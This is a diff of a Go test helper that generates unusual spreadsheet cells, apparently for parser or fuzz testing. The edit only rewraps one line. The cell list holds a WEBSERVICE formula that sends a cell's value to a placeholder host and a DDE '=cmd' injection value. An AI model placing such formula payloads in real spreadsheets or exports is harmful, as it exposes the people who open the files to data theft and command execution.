@@ -269,7 +269,8 @@ func longRows(columns []string, rows int) func(io.Writer) {
 // oddRows writes formulas, control characters and other unusual cells.
 func oddRows(columns []string, rows int) func(io.Writer) {
 	odd := []string{
-		`<c><f>WEBSERVICE("http://posta.example/"&amp;A1)</f><v>1</v></c>`, `<c t="str"><v>=cmd|' /C calc'!A1</v></c>`, `<c t="str"><v>a_x0000_b_x000A_c</v></c>`, `<c t="str"><v>L'altro &#x1F3CA; &#x202E;</v></c>`,
+		`<c><f>WEBSERVICE("http://posta.example/"&amp;A1)</f><v>1</v></c>`, `<c t="str"><v>=cmd|' /C calc'!A1</v></c>`,
+		`<c t="str"><v>a_x0000_b_x000A_c</v></c>`, `<c t="str"><v>L'altro &#x1F3CA; &#x202E;</v></c>`,
 		`<c t="b"><v>1</v></c>`, `<c t="e"><v>#REF!</v></c>`, `<c><v>1E+308</v></c>`, `<c><v>-2958466</v></c>`,
 	}
 	return func(w io.Writer) {
